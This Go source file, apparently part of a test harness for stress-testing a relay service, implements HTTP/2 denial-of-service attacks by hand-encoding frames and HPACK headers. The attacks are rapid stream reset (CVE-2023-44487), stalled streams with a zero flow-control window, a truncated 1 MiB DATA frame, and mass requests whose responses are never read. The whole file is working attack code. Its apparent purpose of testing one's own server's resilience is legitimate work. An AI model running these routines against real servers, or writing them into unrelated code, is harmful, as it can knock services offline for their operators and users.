package abuse

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/binary"
	"io"
	"net"
	"strconv"
	"time"
)

// The frames of RFC 9113 section 6, as far as they are sent here.
const (
	frameData     = 0
	frameHeaders  = 1
	frameReset    = 3
	frameSettings = 4
	framePing     = 6

	endStream  = 1
	endHeaders = 4

	settingInitialWindow = 4 // section 6.5.2
	resetCancel          = 8 // section 7
)

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// An http2Conn is a connection for frames that no honest client sends.
type http2Conn struct {
	*tls.Conn
	next uint32 // stream
	out  []byte // what the next flush sends
}

// dialHTTP2 grants each of the relay's answers window bytes.
func (t Target) dialHTTP2(ctx context.Context, window uint32) (*http2Conn, error) {
	conn, err := t.dial(ctx, "h2")
	if err != nil {
		return nil, err
	}
	c := &http2Conn{Conn: conn, next: 1}
	c.out = append(c.out, preface...)
	c.frame(frameSettings, 0, 0, binary.BigEndian.AppendUint32([]byte{0, settingInitialWindow}, window))
	return c, c.flush()
}

// frame is section 4.1's.
func (c *http2Conn) frame(kind, flags byte, stream uint32, payload []byte) {
	n := len(payload)
	c.out = append(c.out, byte(n>>16), byte(n>>8), byte(n), kind, flags)
	c.out = binary.BigEndian.AppendUint32(c.out, stream)
	c.out = append(c.out, payload...)
}

func (c *http2Conn) flush() error {
	_, err := c.Write(c.out)
	c.out = c.out[:0]
	return err
}

// request opens a stream with a request that is not yet at its end if body is
// announced.
func (c *http2Conn) request(authority, token string, body int) (stream uint32) {
	stream, c.next = c.next, c.next+2
	flags := byte(endHeaders)
	if body == 0 {
		flags |= endStream
	}
	c.frame(frameHeaders, flags, stream, header(authority, token, body))
	return stream
}

func (c *http2Conn) reset(stream uint32) {
	c.frame(frameReset, 0, stream, []byte{0, 0, 0, resetCancel})
}

// header is a request's in HPACK (RFC 7541): indexed fields, and literals that
// are not indexed. The numbers are of its static table (appendix A).
func header(authority, token string, body int) []byte {
	const get, post, https = 2, 3, 7
	method, path := byte(get), "/api/v1/quantum-entropy?size=1"
	if body > 0 {
		method, path = post, "/api/v1/entropy"
	}
	h := []byte{0x80 | method, 0x80 | https} // pseudo-header fields come first (RFC 9113 section 8.3)
	h = literal(h, 4, path)
	h = literal(h, 1, authority)
	if body > 0 {
		h = literal(h, 28, strconv.Itoa(body)) // content-length
		h = literal(h, 31, "application/json") // content-type
	}
	return literal(h, 23, "Bearer "+token) // authorization
}

// literal is section 6.2.2's, with an indexed name.
func literal(h []byte, name int, value string) []byte {
	h = integer(h, 0, 4, name)
	return append(integer(h, 0, 7, len(value)), value...)
}

// integer is section 5.1's.
func integer(h []byte, first byte, bits uint, n int) []byte {
	most := 1<<bits - 1
	if n < most {
		return append(h, first|byte(n))
	}
	h = append(h, first|byte(most))
	for n -= most; n >= 128; n >>= 7 {
		h = append(h, byte(n)|0x80)
	}
	return append(h, byte(n))
}

// rapidReset opens streams and takes each back at once (CVE-2023-44487), at full
// speed.
func rapidReset(ctx context.Context, t Target, a *attacker) error {
	c, err := t.dialHTTP2(ctx, 1<<16)
	if err != nil {
		return errRefused
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	gone := make(chan struct{})
	go func() { io.Copy(io.Discard, c.Conn); close(gone) }()
	for !closed(gone) {
		const batch = 50
		for range batch {
			c.reset(c.request(t.Addr, wrongToken, 0))
		}
		if c.flush() != nil {
			return nil
		}
		a.sent(batch)
		a.inPlace()
	}
	return nil
}

// stalledStreams asks on more streams than there may be, each with a body that
// nobody reads, and grants the answers no byte.
func stalledStreams(ctx context.Context, t Target, a *attacker) error {
	c, err := t.dialHTTP2(ctx, 0)
	if err != nil {
		return errRefused
	}
	defer c.Close()
	const streams, body = 100, 100 << 10
	for range streams {
		c.request(t.Addr, wrongToken, body)
	}
	c.flush()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	answered, err := c.awaitAnswers(streams)
	if err != nil {
		return nil
	}
	for _, stream := range answered {
		c.frame(frameData, 0, stream, make([]byte, 900))
	}
	c.flush()
	a.sent(len(answered))
	a.inPlace()
	return untilClosed(ctx, c)
}

// awaitAnswers reads until n streams were answered or reset, and returns the former.
func (c *http2Conn) awaitAnswers(n int) (answered []uint32, err error) {
	r := bufio.NewReader(c.Conn)
	for ; n > 0; n-- {
		for kind := byte(0xff); kind != frameHeaders && kind != frameReset; {
			var head [9]byte // section 4.1
			if _, err := io.ReadFull(r, head[:]); err != nil {
				return answered, err
			}
			if _, err := r.Discard(int(head[0])<<16 | int(head[1])<<8 | int(head[2])); err != nil {
				return answered, err
			}
			if kind = head[3]; kind == frameHeaders {
				answered = append(answered, binary.BigEndian.Uint32(head[5:]))
			}
		}
	}
	return answered, nil
}

// largeFrames sends a frame as large as Go's server takes unless it is told not
// to, except for its last byte.
func largeFrames(ctx context.Context, t Target, a *attacker) error {
	c, err := t.dialHTTP2(ctx, 1<<16)
	if err != nil {
		return errRefused
	}
	defer c.Close()
	c.frame(frameData, 0, 1, make([]byte, 1<<20))
	c.out = c.out[:len(c.out)-1]
	c.flush()
	c.out = nil // who measures the relay's memory in this process is not to see ours
	a.sent(1)
	a.inPlace()
	return untilClosed(ctx, c)
}

// deafStreams asks and reads no answer, until the relay can write no more.
func deafStreams(ctx context.Context, t Target, a *attacker) error {
	c, err := t.dialHTTP2(ctx, 1<<31-1)
	if err != nil {
		return errRefused
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	c.NetConn().(*net.TCPConn).SetReadBuffer(1)
	const batches, batch = 60, 50
	for range batches { // fewer than make a server close the connection for the refusals it queues
		for range batch {
			c.request(t.Addr, wrongToken, 0)
		}
		if c.flush() != nil {
			return nil
		}
		a.sent(batch)
		time.Sleep(tick / 10)
	}
	a.inPlace()
	for { // it is not read from, so that only a write tells whether it is there
		time.Sleep(tick)
		c.frame(framePing, 0, 0, make([]byte, 8))
		if c.flush() != nil {
			return nil
		}
	}
}
